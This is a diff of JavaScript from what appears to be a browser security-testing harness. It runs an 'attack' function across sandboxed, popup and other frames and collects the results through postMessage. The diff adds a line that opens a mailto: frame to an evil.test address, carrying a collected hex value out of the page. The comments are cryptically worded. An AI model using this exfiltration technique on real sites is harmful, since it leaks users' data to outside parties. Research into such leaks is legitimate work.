@@ -3,7 +3,8 @@ const places = PLACES, reported = {};
 const port = (place) => PORT + 10 * places.indexOf(place);
 let hex = '';
 // Which street the shop's own answers spell: it was told in another way.
-const known = new URLSearchParams(location.search).has('street') ? 'preset' : 'released';
+const asked = new URLSearchParams(location.search);
+const known = asked.has('street') ? 'preset' : 'released';
 const call = (place, relayAlone) => `(${attack})('${place}', '${hex}', ${port(place)}, ${!!relayAlone})`;
 const html = (place, relayAlone) => `<!doctype html><body><script>parent.postMessage({ place: '${place}', tried: ${call(place, relayAlone)} }, '*')<\/script>`;
 const report = (place, tried) => { if (place && !(reported[place] || []).length) reported[place] = tried; };
@@ -70,6 +71,8 @@ const begin = (street) => {
   // The frames that run before the guard's script does are the ones to hurry with; what may hold the page up comes last.
   attempt('sandboxed');
   places.filter((place) => !['sandboxed', 'popup'].includes(place)).forEach(attempt);
+  // An address that is given to another program, where there is one that writes it down.
+  if (asked.has('letter')) frame({ src: `mailto:${hex}@evil.test` });
   const end = performance.now() + 8000;
   const wait = setInterval(() => {
     if (performance.now() < end && places.some((place) => place !== 'popup' && !reported[place])) return;
@@ -84,7 +87,7 @@ const begin = (street) => {
 };
 try { navigator.serviceWorker.register('/service.js').catch(() => {}); } catch (error) {}
 const street = document.querySelector('[name=street]');
-const preset = new URLSearchParams(location.search).get('street');
+const preset = asked.get('street');
 if (preset) {
   addEventListener('load', () => begin(preset));
 } else {
